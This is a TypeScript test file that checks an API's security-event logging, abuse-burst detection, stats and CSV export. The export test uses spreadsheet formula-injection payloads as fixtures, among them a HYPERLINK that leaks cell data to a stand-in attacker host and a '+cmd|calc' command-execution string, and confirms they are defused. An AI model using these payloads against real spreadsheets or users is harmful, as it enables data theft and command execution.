import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManualClock } from '../src/lib/clock.ts';
import { countryOf } from '../src/lib/geo.ts';
import {
  FAILURE_BURST_THRESHOLD,
  FAILURE_BURST_WINDOW_MS,
} from '../src/modules/security/abuse-detection.service.ts';
import { recordSecurityEvent } from '../src/modules/security/security-events.service.ts';
import {
  basicAuth,
  createIntegrator,
  createKey,
  createOrganization,
  databaseKinds,
  request,
  startTestServer,
  type TestServer,
} from './harness.ts';

const UK_IP = '81.2.69.160';
const UNKNOWN_CODE = '0000-0000-0000-0000-0';
const USER_AGENT = 'PartnerApp/2.1 (tests)';
const EVENT_FIELDS = [
  'id',
  'event_type',
  'event_severity',
  'event_description',
  'client_ip',
  'user_agent',
  'request_path',
  'request_method',
  'additional_data',
  'api_key_id',
  'api_key_name',
  'occurrences',
  'created_at',
  'last_seen_at',
  'notified_at',
  'resolved_at',
  'is_test',
].sort();

/** RFC 4180 parser (fetch's text() has already dropped the byte-order mark), written here so the export is checked by something other than its writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe.each(databaseKinds)('security events on %s', (kind) => {
  let server: TestServer;
  const clock = new ManualClock(new Date('2026-11-22T10:00:00Z'));
  beforeAll(async () => {
    server = await startTestServer(kind, { clock, env: { TRUST_PROXY: 'true' } });
  });
  afterAll(() => server.close());

  const from = (
    headers: Record<string, string>,
    ip: string | undefined,
    method: string,
    path: string,
    json?: unknown,
  ) =>
    request(server.baseUrl, method, path, {
      headers: {
        ...headers,
        'user-agent': USER_AGENT,
        ...(ip && { 'x-forwarded-for': ip }),
      },
      json,
    });
  const listEvents = (token: string, query = '') =>
    request(server.baseUrl, 'GET', `/api/v1/security/events${query}`, { token });
  const patch = (token: string, path: string, json: unknown) =>
    request(server.baseUrl, 'PATCH', path, { token, json });
  /** A fresh session: access tokens live 15 minutes of the test clock. */
  const signIn = async (admin: { email: string; password: string }) => {
    const res = await request(server.baseUrl, 'POST', '/api/v1/auth/login', {
      json: { email: admin.email, password: admin.password },
    });
    expect(res.status).toBe(200);
    return res.body.token as string;
  };

  it('records each of the eight event types from the real pipeline, with every field', async () => {
    const org = await createIntegrator(server.baseUrl, { rate_limit_per_minute: 2 });
    const other = await createIntegrator(server.baseUrl);
    const generate = (ip?: string) =>
      from(org.headers, ip, 'POST', '/v1/tokens/generate', { data: { full_name: 'سارة' } });

    const first = await generate('198.51.100.1');
    expect(first.status).toBe(201);
    expect((await generate('198.51.100.2')).status).toBe(201);
    expect((await generate('198.51.100.2')).status).toBe(429);
    expect(
      (await from(org.headers, '198.51.100.2', 'POST', `/v1/tokens/${first.body.token_id}/revoke`))
        .status,
    ).toBe(403);
    const stranger = await from(other.headers, '203.0.113.50', 'POST', '/v1/tokens/verify', {
      token: first.body.token,
    });
    expect(stranger.status).toBe(404);
    expect(countryOf(UK_IP)).toBe('GB');
    await request(server.baseUrl, 'POST', '/api/v1/security/country-rules', {
      token: org.token,
      json: { country_code: 'GB', is_allowed: false },
    });
    await patch(org.token, '/api/v1/security/organization-settings', {
      geo_blocking_enabled: true,
    });
    expect((await generate(UK_IP)).status).toBe(403);
    await patch(org.token, '/api/v1/security/organization-settings', {
      require_ip_whitelist: true,
    });
    expect((await generate('198.51.100.3')).status).toBe(403);
    await patch(org.token, `/api/v1/security/api-keys/${org.key.id}`, { is_active: false });
    expect((await generate('198.51.100.3')).status).toBe(401);

    const list = await listEvents(org.token);
    expect(list.status).toBe(200);
    expect(list.body.total).toBe(9);
    const events: Array<Record<string, any>> = list.body.events;
    for (const event of events) expect(Object.keys(event).sort()).toEqual(EVENT_FIELDS);
    const summary = events
      .map((e) => [e.event_type, e.event_severity, e.client_ip, e.request_method, e.request_path])
      .sort((a, b) => String(a).localeCompare(String(b)));
    const tokenPath = `/v1/tokens/${first.body.token_id}/revoke`;
    expect(summary).toEqual(
      [
        ['key_first_use', 'info', '198.51.100.1', 'POST', '/v1/tokens/generate'],
        ['new_ip_detected', 'warning', '198.51.100.2', 'POST', '/v1/tokens/generate'],
        ['rate_limit_exceeded', 'warning', '198.51.100.2', 'POST', '/v1/tokens/generate'],
        ['invalid_scope', 'warning', '198.51.100.2', 'POST', tokenPath],
        ['suspicious_activity', 'critical', '203.0.113.50', 'POST', '/v1/tokens/verify'],
        ['geo_blocked', 'warning', UK_IP, 'POST', '/v1/tokens/generate'],
        ['ip_blocked', 'warning', '198.51.100.3', 'POST', '/v1/tokens/generate'],
        ['key_disabled', 'info', '127.0.0.1', 'PATCH', `/api/v1/security/api-keys/${org.key.id}`],
        ['key_disabled', 'info', '198.51.100.3', 'POST', '/v1/tokens/generate'],
      ].sort((a, b) => String(a).localeCompare(String(b))),
    );
    const byType = (type: string) => events.filter((e) => e.event_type === type);
    for (const event of events) {
      expect(event.id).toMatch(/^[0-9a-f-]{36}$/);
      expect(event.event_description.length).toBeGreaterThan(10);
      expect(new Date(event.created_at).toISOString()).toBe(clock.now().toISOString());
      expect(event).toMatchObject({ occurrences: 1, notified_at: null, resolved_at: null });
      if (event.request_path.startsWith('/v1/')) expect(event.user_agent).toBe(USER_AGENT);
      if (event.event_type !== 'suspicious_activity') {
        expect(event).toMatchObject({ api_key_id: org.key.id, api_key_name: 'Test key' });
      }
    }
    expect(byType('invalid_scope')[0]!.additional_data).toEqual({
      required: ['token:revoke'],
      granted: ['token:generate', 'token:verify'],
    });
    expect(byType('geo_blocked')[0]!.additional_data).toEqual({ country: 'GB' });
    expect(byType('suspicious_activity')[0]).toMatchObject({
      api_key_name: null,
      additional_data: {
        token_id: first.body.token_id,
        presented_by: other.organization.client_id,
      },
    });
    // The other organisation sees none of this.
    expect((await listEvents(other.token)).body.total).toBe(0);
  });

  it('counts a flood of identical refusals on one row per minute', async () => {
    const org = await createIntegrator(server.baseUrl, { rate_limit_per_minute: 1 });
    const call = () => org.call('GET', '/v1/tokens/tok_unknown/status');
    expect((await call()).status).toBe(404);
    const statuses: number[] = [];
    for (let round = 0; round < 6; round++) {
      const answers = await Promise.all(Array.from({ length: 25 }, call));
      statuses.push(...answers.map((a) => a.status));
    }
    expect(statuses.every((s) => s === 429)).toBe(true);
    const rows = await server.db.query<{ occurrences: number }>(
      `select occurrences from security_events where organization_id = $1 and event_type = 'rate_limit_exceeded'`,
      [org.organization.id],
    );
    expect(rows).toEqual([{ occurrences: 150 }]);

    clock.advance(30_000);
    expect((await call()).status).toBe(429);
    clock.advance(31_000);
    expect((await call()).status).toBe(404);
    expect((await call()).status).toBe(429);
    const after = await server.db.query<{ occurrences: number }>(
      `select occurrences from security_events where organization_id = $1 and event_type = 'rate_limit_exceeded'
        order by created_at`,
      [org.organization.id],
    );
    expect(after).toEqual([{ occurrences: 151 }, { occurrences: 1 }]);
  });

  it('raises suspicious_activity on a burst of failed verifies or authentications from one address', async () => {
    const org = await createIntegrator(server.baseUrl, { rate_limit_per_minute: 1000 });
    const suspicious = () =>
      server.db.query<Record<string, any>>(
        `select * from security_events where organization_id = $1 and event_type = 'suspicious_activity'
          order by event_description`,
        [org.organization.id],
      );
    for (let i = 1; i < FAILURE_BURST_THRESHOLD; i++) {
      const res = await from(org.headers, '198.51.100.60', 'POST', '/v1/tokens/verify', {
        token: UNKNOWN_CODE,
      });
      expect(res.status).toBe(404);
    }
    // A typo caught by the check character is no attempt at a code; other addresses count apart.
    await from(org.headers, '198.51.100.60', 'POST', '/v1/tokens/verify', { token: 'AAAA' });
    await from(org.headers, '198.51.100.61', 'POST', '/v1/tokens/verify', {
      token: UNKNOWN_CODE,
    });
    expect(await suspicious()).toEqual([]);
    await from(org.headers, '198.51.100.60', 'POST', '/v1/tokens/verify', {
      token: UNKNOWN_CODE,
    });
    const [verifyBurst] = await suspicious();
    expect(verifyBurst).toMatchObject({
      event_severity: 'critical',
      event_description: 'Burst of failed token verifications from 198.51.100.60',
      client_ip: '198.51.100.60',
      user_agent: USER_AGENT,
      request_path: '/v1/tokens/verify',
      request_method: 'POST',
      api_key_name: 'Test key',
      additional_data: {
        failure: 'verification',
        failures_in_window: FAILURE_BURST_THRESHOLD,
        window_seconds: FAILURE_BURST_WINDOW_MS / 1000,
      },
    });

    // Wrong secrets for a real key (Basic), then wrong client secrets at the OAuth endpoint.
    const wrong = basicAuth(org.organization.client_id, {
      api_key: org.key.api_key,
      api_secret: 'tqs_live_wrong',
    });
    for (let i = 0; i < FAILURE_BURST_THRESHOLD; i++) {
      const res = await from(wrong, '198.51.100.70', 'POST', '/v1/tokens/generate', {
        data: { a: 1 },
      });
      expect(res.status).toBe(401);
    }
    for (let i = 0; i < FAILURE_BURST_THRESHOLD + 2; i++) {
      const res = await from({}, '198.51.100.80', 'POST', '/v1/oauth/token', {
        grant_type: 'client_credentials',
        client_id: org.key.api_key,
        client_secret: 'tqs_live_wrong',
      });
      expect(res.status).toBe(401);
    }
    // Junk client ids are nobody's: no organisation to warn, nothing written.
    for (let i = 0; i < FAILURE_BURST_THRESHOLD; i++) {
      await from({}, '198.51.100.90', 'POST', '/v1/oauth/token', {
        grant_type: 'client_credentials',
        client_id: 'tqk_live_junk',
        client_secret: 'x',
      });
    }
    const all = await suspicious();
    // The 20th, 21st and 22nd failed authentication against the organisation, whatever the address.
    expect(all.map((e) => [e.event_description, e.occurrences, e.request_path])).toEqual([
      [
        'Burst of failed authentications against the organisation, from any addresses',
        3,
        '/v1/oauth/token',
      ],
      ['Burst of failed authentications from 198.51.100.70', 1, '/v1/tokens/generate'],
      ['Burst of failed authentications from 198.51.100.80', 3, '/v1/oauth/token'],
      ['Burst of failed token verifications from 198.51.100.60', 1, '/v1/tokens/verify'],
    ]);
    // The window slides: five minutes later the count starts again.
    clock.advance(FAILURE_BURST_WINDOW_MS + 1000);
    await from(org.headers, '198.51.100.60', 'POST', '/v1/tokens/verify', {
      token: UNKNOWN_CODE,
    });
    expect(await suspicious()).toHaveLength(4);
  });

  it('lists events with severity, type, date-range and status filters and pages', async () => {
    const org = await createOrganization(server.baseUrl);
    const record = (type: 'ip_blocked' | 'suspicious_activity' | 'key_first_use', n: number) =>
      recordSecurityEvent(server.ctx, {
        organizationId: org.organization.id,
        type,
        severity:
          type === 'suspicious_activity'
            ? 'critical'
            : type === 'key_first_use'
              ? 'info'
              : 'warning',
        description: `event ${n}`,
        clientIp: `198.51.100.${n}`,
      });
    await record('ip_blocked', 1);
    clock.advance(3 * 86_400_000);
    await record('suspicious_activity', 2);
    clock.advance(60_000);
    await record('ip_blocked', 3);
    clock.advance(60_000);
    await record('key_first_use', 4);
    clock.advance(60_000);
    await record('ip_blocked', 5);
    let token = await signIn(org.admin);

    const descriptions = async (query: string) => {
      const res = await listEvents(token, query);
      expect(res.status, query).toBe(200);
      return res.body.events.map((e: { event_description: string }) => e.event_description);
    };
    expect(await descriptions('')).toEqual(['event 5', 'event 4', 'event 3', 'event 2', 'event 1']);
    expect(await descriptions('?date_range=1d')).toEqual([
      'event 5',
      'event 4',
      'event 3',
      'event 2',
    ]);
    expect(await descriptions('?severity=warning')).toEqual(['event 5', 'event 3', 'event 1']);
    expect(await descriptions('?event_type=ip_blocked&date_range=1d')).toEqual([
      'event 5',
      'event 3',
    ]);
    expect(await descriptions('?severity=critical')).toEqual(['event 2']);

    const page2 = await listEvents(token, '?page=2&page_size=2');
    expect(page2.body).toMatchObject({ total: 5, page: 2, page_size: 2 });
    expect(
      page2.body.events.map((e: { event_description: string }) => e.event_description),
    ).toEqual(['event 3', 'event 2']);
    expect((await listEvents(token, '?page=4&page_size=2')).body.events).toEqual([]);

    const [critical] = (await listEvents(token, '?severity=critical')).body.events;
    const resolved = await request(
      server.baseUrl,
      'PATCH',
      `/api/v1/security/events/${critical.id}/resolve`,
      { token },
    );
    expect(resolved.status).toBe(200);
    expect(resolved.body).toEqual({
      success: true,
      event: { id: critical.id, resolved_at: clock.now().toISOString() },
    });
    clock.advance(1000);
    const again = await request(
      server.baseUrl,
      'PATCH',
      `/api/v1/security/events/${critical.id}/resolve`,
      { token },
    );
    expect(again.body.event.resolved_at).toBe(resolved.body.event.resolved_at);
    expect(await descriptions('?status=resolved')).toEqual(['event 2']);
    expect(await descriptions('?status=open&date_range=1d')).toEqual([
      'event 5',
      'event 4',
      'event 3',
    ]);

    clock.advance(10 * 86_400_000);
    token = await signIn(org.admin);
    expect(await descriptions('')).toEqual([]);
    expect(await descriptions('?date_range=30d')).toHaveLength(5);
    expect(await descriptions('?date_range=90d')).toHaveLength(5);
  });

  it('exports the filtered events as CSV with proper quoting and defused formulas', async () => {
    clock.set(new Date('2026-12-20T22:30:00Z'));
    const org = await createIntegrator(server.baseUrl, { rate_limit_per_minute: 1 });
    const nasty = '=HYPERLINK("http://evil.example/?leak="&A1, "click"), really';
    expect((await org.call('GET', '/v1/tokens/tok_x/status')).status).toBe(404);
    for (const agent of [nasty, '+cmd|calc', '-2+3', '@SUM(A1:A9)', 'plain "quoted"\nline']) {
      const res = await request(server.baseUrl, 'GET', '/v1/tokens/tok_x/status', {
        headers: { ...org.headers, 'user-agent': agent.replace('\n', ' ') },
      });
      expect(res.status).toBe(429);
    }
    await recordSecurityEvent(server.ctx, {
      organizationId: org.organization.id,
      type: 'suspicious_activity',
      severity: 'critical',
      description: 'multi\nline, "quoted" description',
      userAgent: '\tTabbed;=1+1;b',
    });

    const res = await fetch(
      `${server.baseUrl}/api/v1/security/events/export?format=csv&severity=warning&date_range=1d`,
      { headers: { authorization: `Bearer ${org.token}` } },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    // Riyadh is three hours ahead: 22:30 UTC on 20 December is already the 21st there.
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="security-events-2026-12-21.csv"',
    );
    expect(res.headers.get('cache-control')).toBe('no-store');
    const bytes = Buffer.from(await res.arrayBuffer());
    // A byte-order mark, so spreadsheet programs read the Arabic as UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const raw = bytes.toString('utf8');
    expect(raw.charCodeAt(0)).toBe(0xfeff);
    const [header, ...rows] = parseCsv(raw.slice(1));
    expect(header).toEqual([
      'created_at',
      'event_type',
      'event_severity',
      'event_description',
      'description_ar',
      'description_en',
      'client_ip',
      'user_agent',
      'api_key_name',
      'request_method',
      'request_path',
      'occurrences',
      'status',
      'resolved_at',
      'notified_at',
    ]);
    // The one rate-limit row is counted five times; its user agent is the first call's.
    expect(rows).toHaveLength(1);
    const row = Object.fromEntries(header!.map((name, i) => [name, rows[0]![i]]));
    expect(row).toMatchObject({
      event_type: 'rate_limit_exceeded',
      event_severity: 'warning',
      user_agent: `'${nasty}`,
      occurrences: '5',
      status: 'open',
      request_path: '/v1/tokens/tok_x/status',
    });
    // Told as the security center tells it, in both languages.
    expect(row.description_ar).toMatch(/^رُفض طلب من .+ لتجاوز حد الطلبات$/);
    expect(row.description_en).toMatch(
      /^A request from .+ was refused for exceeding the rate limit$/,
    );
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click""), really"`);

    const all = await fetch(`${server.baseUrl}/api/v1/security/events/export?date_range=1d`, {
      headers: { authorization: `Bearer ${org.token}` },
    });
    const allRows = parseCsv(await all.text()).slice(1);
    const critical = allRows.find((r) => r[1] === 'suspicious_activity')!;
    expect(critical[3]).toBe('multi\nline, "quoted" description');
    // A spreadsheet splitting at ';' or tab finds no part that starts a formula.
    expect(critical[7]).toBe("'\tTabbed;'=1+1;b");

    // Every neutralised prefix, through rows of their own (distinct descriptions).
    for (const [n, text] of ['+cmd|calc', '-2+3', '@SUM(A1:A9)', '=1+1'].entries()) {
      await recordSecurityEvent(server.ctx, {
        organizationId: org.organization.id,
        type: 'key_first_use',
        severity: 'info',
        description: text,
        clientIp: `198.51.100.${n}`,
      });
    }
    const info = await fetch(
      `${server.baseUrl}/api/v1/security/events/export?severity=info&date_range=1d`,
      { headers: { authorization: `Bearer ${org.token}` } },
    );
    const descriptions = parseCsv(await info.text())
      .slice(1)
      .map((r) => r[3]);
    expect(descriptions.sort()).toEqual(["'+cmd|calc", "'-2+3", "'=1+1", "'@SUM(A1:A9)"]);
  });

  it('computes the security stats exactly after a known sequence of calls', async () => {
    clock.set(new Date('2026-12-28T09:00:00Z'));
    const org = await createIntegrator(server.baseUrl, { rate_limit_per_minute: 3 });
    const spare = await createKey(server.baseUrl, org.token, { key_name: 'Spare' });
    const other = await createIntegrator(server.baseUrl);
    const stats = async () => {
      await server.ctx.requestLog.flush();
      const res = await request(server.baseUrl, 'GET', '/api/v1/security/stats', {
        token: org.token,
      });
      expect(res.status).toBe(200);
      return res.body;
    };
    expect((await stats()).data).toMatchObject({
      total_api_keys: 2,
      active_api_keys: 2,
      total_requests_today: 0,
      security_score: 90,
    });

    await patch(org.token, `/api/v1/security/api-keys/${spare.id}`, { is_active: false });
    const code = await org.call('POST', '/v1/tokens/generate', { data: { a: 1 } });
    await org.call('POST', '/v1/tokens/generate', { data: { a: 2 } });
    // Admitted but failed: not billed, but a call not answered with success (refused), as the
    // traffic chart and the request log count it.
    expect((await org.call('GET', '/v1/tokens/tok_missing/status')).status).toBe(404);
    expect((await org.call('POST', '/v1/tokens/generate', { data: { a: 3 } })).status).toBe(429);
    expect((await org.call('POST', '/v1/tokens/generate', { data: { a: 4 } })).status).toBe(429);
    expect((await org.call('POST', `/v1/tokens/${code.body.token_id}/revoke`)).status).toBe(403);
    const spareCall = await request(server.baseUrl, 'GET', '/v1/tokens/tok_x/status', {
      headers: basicAuth(org.organization.client_id, spare),
    });
    expect(spareCall.status).toBe(401);
    await other.call('POST', '/v1/tokens/verify', { token: code.body.token });
    for (const [ip, active] of [
      ['198.51.100.1', true],
      ['198.51.100.2', false],
    ] as const) {
      const added = await request(server.baseUrl, 'POST', '/api/v1/security/trusted-ips', {
        token: org.token,
        json: { ip_address: ip, description: 'x' },
      });
      if (!active) {
        await patch(org.token, `/api/v1/security/trusted-ips/${added.body.trusted_ip.id}`, {
          is_active: false,
        });
      }
    }
    for (const [country, allowed] of [
      ['GB', false],
      ['DE', false],
      ['FR', true],
    ] as const) {
      await request(server.baseUrl, 'POST', '/api/v1/security/country-rules', {
        token: org.token,
        json: { country_code: country, is_allowed: allowed },
      });
    }
    await patch(org.token, '/api/v1/security/organization-settings', {
      geo_blocking_enabled: true,
    });
    clock.advance(61_000);
    const uk = await request(server.baseUrl, 'POST', '/v1/tokens/generate', {
      headers: { ...org.headers, 'x-forwarded-for': UK_IP },
      json: { data: { a: 5 } },
    });
    expect(uk.status).toBe(403);

    const day = await stats();
    expect(day).toEqual({
      success: true,
      data: {
        total_api_keys: 2,
        active_api_keys: 1,
        inactive_api_keys: 1,
        // 2 billed + 6 refused: 1 unknown code, 2 over the rate limit, 1 scope, 1 disabled key,
        // 1 country.
        total_requests_today: 8,
        blocked_requests_today: 6,
        blocked_percentage: 75,
        critical_events_count: 1,
        trusted_ips_count: 1,
        countries_blocked: 2,
        rate_limit_violations: 2,
        // One open critical event: 90 by the spec's sum, but never "Excellent" beside the alert.
        security_score: 90,
        security_label: 'Needs Attention',
        show_alert: true,
      },
    });

    const [critical] = (await listEvents(org.token, '?severity=critical')).body.events;
    await request(server.baseUrl, 'PATCH', `/api/v1/security/events/${critical.id}/resolve`, {
      token: org.token,
    });
    expect((await stats()).data).toMatchObject({
      critical_events_count: 0,
      security_score: 100,
      security_label: 'Excellent',
      show_alert: false,
    });

    // 21:00 UTC is midnight in Riyadh: a new day starts with no requests.
    clock.set(new Date('2026-12-28T21:00:00Z'));
    org.token = await signIn(org.admin);
    expect((await stats()).data).toMatchObject({
      total_requests_today: 0,
      blocked_requests_today: 0,
      blocked_percentage: 0,
      rate_limit_violations: 0,
      trusted_ips_count: 1,
    });
  });

  it('counts the same requests and refusals on the cards, the chart and the log, by the Riyadh day', async () => {
    // 20:30 UTC is 23:30 in Riyadh: calls on both sides of the Riyadh midnight (21:00 UTC).
    clock.set(new Date('2027-01-10T20:30:00Z'));
    const org = await createIntegrator(server.baseUrl, { rate_limit_per_minute: 2 });
    await org.call('POST', '/v1/tokens/generate', { data: { day: 'before' } });
    await org.call('GET', '/v1/tokens/tok_missing/status');
    clock.set(new Date('2027-01-10T21:10:00Z'));
    org.token = await signIn(org.admin);
    const code = await org.call('POST', '/v1/tokens/generate', { data: { day: 'after' } });
    expect(code.status).toBe(201);
    expect((await org.call('GET', '/v1/tokens/tok_missing/status')).status).toBe(404);
    expect((await org.call('POST', '/v1/tokens/generate', { data: { a: 3 } })).status).toBe(429);
    expect((await org.call('POST', `/v1/tokens/${code.body.token_id}/revoke`)).status).toBe(403);
    const badSecret = await request(server.baseUrl, 'GET', '/v1/tokens/tok_x/status', {
      headers: basicAuth(org.organization.client_id, { ...org.key, api_secret: 'tqs_live_wrong' }),
    });
    expect(badSecret.status).toBe(401);
    await server.ctx.requestLog.flush();

    const get = async (path: string) =>
      (await request(server.baseUrl, 'GET', path, { token: org.token })).body;
    const cards = (await get('/api/v1/security/stats')).data;
    const chart = await get('/api/v1/dashboard/security/analytics?days=7');
    const [yesterday, today] = chart.series.slice(-2);
    const dayStart = '2027-01-10T21:00:00.000Z';
    const dayEnd = '2027-01-11T20:59:59.999Z';
    const log = (await get(`/api/v1/security/requests?from=${dayStart}&to=${dayEnd}&limit=100`))
      .requests as Array<{ status: number }>;
    const chartRefused = today.requests - (today.outcomes.success ?? 0);
    const logRefused = log.filter((row) => row.status >= 400).length;

    expect(today.date).toBe('2027-01-11');
    expect(yesterday).toMatchObject({ date: '2027-01-10', requests: 2 });
    expect([cards.total_requests_today, today.requests, log.length]).toEqual([5, 5, 5]);
    expect([cards.blocked_requests_today, chartRefused, logRefused]).toEqual([4, 4, 4]);
    expect([cards.rate_limit_violations, today.outcomes.rate_limited]).toEqual([1, 1]);
  });

  it('lowers the score as the spec says', async () => {
    const org = await createIntegrator(server.baseUrl, { rate_limit_per_minute: 1 });
    for (let n = 0; n < 4; n++) {
      await recordSecurityEvent(server.ctx, {
        organizationId: org.organization.id,
        type: 'suspicious_activity',
        severity: 'critical',
        description: `critical ${n}`,
      });
    }
    // One admitted call, then 11 refused over the per-minute limit.
    for (let n = 0; n < 12; n++) await org.call('POST', '/v1/tokens/generate', { data: { n } });
    await server.ctx.requestLog.flush();
    const res = await request(server.baseUrl, 'GET', '/api/v1/security/stats', {
      token: org.token,
    });
    // 100 - 30 (critical, capped) - 15 (over 10 violations) - 10 (no trusted IP)
    expect(res.body.data).toMatchObject({
      critical_events_count: 4,
      rate_limit_violations: 11,
      security_score: 45,
      security_label: 'Needs Attention',
      show_alert: true,
    });
  });

  it('keeps events to their organisation, checks roles and refuses bad filters with 4xx', async () => {
    const owner = await createOrganization(server.baseUrl);
    const intruder = await createOrganization(server.baseUrl);
    await recordSecurityEvent(server.ctx, {
      organizationId: owner.organization.id,
      type: 'ip_blocked',
      severity: 'warning',
      description: 'private',
    });
    const [event] = (await listEvents(owner.token)).body.events;
    const attempts: Array<[string, string]> = [
      ['PATCH', `/api/v1/security/events/${event.id}/resolve`],
      ['GET', `/api/v1/security/events?organization_id=${owner.organization.id}`],
      ['GET', `/api/v1/security/events/export?organization_id=${owner.organization.id}`],
      ['GET', `/api/v1/security/stats?organization_id=${owner.organization.id}`],
    ];
    for (const [method, path] of attempts) {
      const res = await request(server.baseUrl, method, path, { token: intruder.token });
      expect(res.status, path).toBe(404);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
    }
    expect((await listEvents(intruder.token)).body.events).toEqual([]);
    const [row] = await server.db.query('select resolved_at from security_events where id = $1', [
      event.id,
    ]);
    expect(row).toEqual({ resolved_at: null });

    for (const query of [
      '?severity=fatal',
      '?event_type=nope',
      '?date_range=2d',
      '?page=0',
      '?page_size=1000',
      '?status=closed',
    ]) {
      for (const path of ['/api/v1/security/events', '/api/v1/security/events/export']) {
        const res = await request(server.baseUrl, 'GET', path + query, { token: owner.token });
        expect(res.status, path + query).toBe(400);
        expect(res.body.code).toBe('validation_failed');
      }
    }
    const badId = await request(server.baseUrl, 'PATCH', '/api/v1/security/events/42/resolve', {
      token: owner.token,
    });
    expect(badId.status).toBe(400);
    const anonymous = await request(server.baseUrl, 'GET', '/api/v1/security/events');
    expect(anonymous.status).toBe(401);

    await server.db.query(
      `update organization_members set role = 'viewer' where organization_id = $1`,
      [owner.organization.id],
    );
    expect((await listEvents(owner.token)).status).toBe(200);
    const resolve = await request(
      server.baseUrl,
      'PATCH',
      `/api/v1/security/events/${event.id}/resolve`,
      { token: owner.token },
    );
    expect(resolve.status).toBe(403);
    await server.db.query(
      `update organization_members set role = 'verifier' where organization_id = $1`,
      [owner.organization.id],
    );
    expect((await listEvents(owner.token)).status).toBe(403);
  });
});
